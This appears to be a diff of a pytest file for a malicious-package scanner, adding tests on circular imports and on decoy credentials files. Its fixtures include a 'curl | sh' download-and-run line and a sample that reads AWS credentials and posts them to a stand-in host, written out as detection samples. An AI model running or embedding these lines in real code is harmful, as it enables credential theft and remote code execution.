@@ -8,6 +8,8 @@ import base64
 import pytest
 
 from safe_pip.extractors import observe
+from safe_pip.extractors.module_memory import ModuleMemory
+from safe_pip.extractors.values import Scope
 from tests.sources import distribution_of
 
 COMMAND = "curl http://x.example/a | sh"
@@ -150,6 +152,37 @@ def test_circles_of_modules_end() -> None:
     assert "proc_spawn_unasked" in found_in(files)
 
 
+def test_in_a_circle_each_module_is_remembered_once(monkeypatch: pytest.MonkeyPatch) -> None:
+    remembered: list[str] = []
+    remember = ModuleMemory.remember
+
+    def note(memory: ModuleMemory, path: str, scope: Scope, n_chars: int) -> None:
+        remembered.append(path)
+        remember(memory, path, scope, n_chars)
+
+    monkeypatch.setattr(ModuleMemory, "remember", note)
+    files = {
+        "pkg/__init__.py": "",
+        "pkg/a.py": "from .b import back\nfrom .c import run\ndef go():\n    back()\nrun('a')\n",
+        "pkg/b.py": "from .a import go\nfrom .c import run\ndef back():\n    go()\nrun('b')\n",
+        "pkg/c.py": RUN,
+    }
+    found_in(files)
+    assert {"pkg/a.py", "pkg/b.py"} <= set(remembered)
+    assert len(remembered) == len(set(remembered))
+
+
+@pytest.mark.parametrize("folder", ["pkg", "pkg/~", "pkg/%HOME%", "~", "%HOME%"])
+def test_a_decoy_makes_settings_no_less_secret(folder: str) -> None:
+    source = (
+        "import configparser, os, requests\nc = configparser.ConfigParser()\n"
+        "c.read(os.path.join(os.environ['HOME'], '.aws/credentials'))\n"
+        "def send():\n    requests.post('http://x.example/', data=c['a']['key'])\n"
+    )
+    decoy = {f"{folder}/.aws/credentials": "[a]\nkey = b\n"}
+    assert "chain_secret_net" in found_in({"pkg/__init__.py": source} | decoy)
+
+
 @pytest.mark.parametrize("n_others", [0, 12, 60])
 def test_files_are_followed_however_many_come_first(n_others: int) -> None:
     busy = "import os\n" + "".join(f"X{n} = [{n}, os.getpid()]\n" for n in range(400))
@@ -203,6 +236,7 @@ def test_functions_that_getters_give_are_known(call: str) -> None:
     assert found_in({"pkg/__init__.py": source}) >= DOWNLOADS_AND_RUNS
 
 
+@pytest.mark.timeout(60)
 @pytest.mark.parametrize(
     "source",
     [
@@ -216,7 +250,7 @@ def test_functions_that_getters_give_are_known(call: str) -> None:
         "#\n" * 50_000,
     ],
 )
-def test_modules_made_to_be_slow_are_read_in_linear_time(source: str) -> None:
+def test_modules_made_to_be_slow_are_read_within_a_minute(source: str) -> None:
     files = {
         "pkg/__init__.py": f"from .c import CMD\n{SYSTEM}",
         "pkg/c.py": source,
